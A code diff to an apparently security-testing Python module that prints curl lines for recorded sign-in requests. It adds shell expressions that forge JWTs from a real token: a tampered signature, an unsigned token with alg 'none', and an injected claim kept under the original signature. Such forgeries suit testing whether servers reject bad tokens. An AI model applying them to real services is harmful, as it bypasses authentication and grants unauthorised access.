@@ -44,6 +44,21 @@ SIGN_IN = (
 )
 """The requests of a sign-in: what each does, its endpoint, and its body with capitals to be replaced."""
 
+FORGERIES = {
+    "another signature": (
+        r'''"${OLD%.*}.$(printf %s "${OLD##*.}" | sed 's/.$//' | tr A-Za-z B-ZAb-za)${OLD#"${OLD%?}"}"'''
+    ),
+    "unsigned, with the algorithm none": (
+        r""""$(printf '{"typ":"JWT","alg":"none"}' | base64 | tr -d '=')."""
+        r'''$(printf %s "$OLD" | cut -d. -f2)."'''
+    ),
+    "another claim under the same signature": (
+        r""""${OLD%%.*}.$(printf %s "$OLD" | cut -d. -f2 | tr _- /+ | sed 's/$/==/' | base64 -d 2>/dev/null"""
+        r''' | sed 's/}$/,"suite":true}/' | base64 | tr -d '=\n' | tr /+ _-).${OLD##*.}"'''
+    ),
+}
+"""Shell words that make a forged token out of another one, by how the two differ."""
+
 MOST_REQUESTS = 4
 """Requests that are repeated by curl lines."""
 
@@ -97,11 +112,19 @@ def curl(exchanges: Sequence[Exchange], origins: Origins) -> str | None:
         return None
     sent = " ".join(text for each in requests for text in (each.url, *_headers(each), *_body(each)))
     named = origins_in(sent, origins)
-    comments = [f"# {_variable(each)}: {with_origin(each, origins)}" for each in named]
+    comments = [line for each in reversed(named) for line in _where_from(each, origins)]
     if any(LOGIN_COMPLETE in origin for origin in named.values()):
         comments += _sign_in(requests[0])
     text = "\n".join([*comments, *map(_command, requests)])
     return text if len(text) <= MOST_CHARACTERS and visible(text) == text else None
+
+
+def _where_from(placeholder: str, origins: Origins) -> Iterator[str]:
+    """A comment on the origin of a secret, and for a forged token the shell line that makes it."""
+    yield f"# {_variable(placeholder)}: {with_origin(placeholder, origins)}"
+    source, _, difference = origins[placeholder].partition(", ")
+    if difference in FORGERIES:
+        yield f"#   {_variable(placeholder)}={FORGERIES[difference].replace('OLD', _variable(f'[{source}]'))}"
 
 
 def _command(request: Request) -> str:
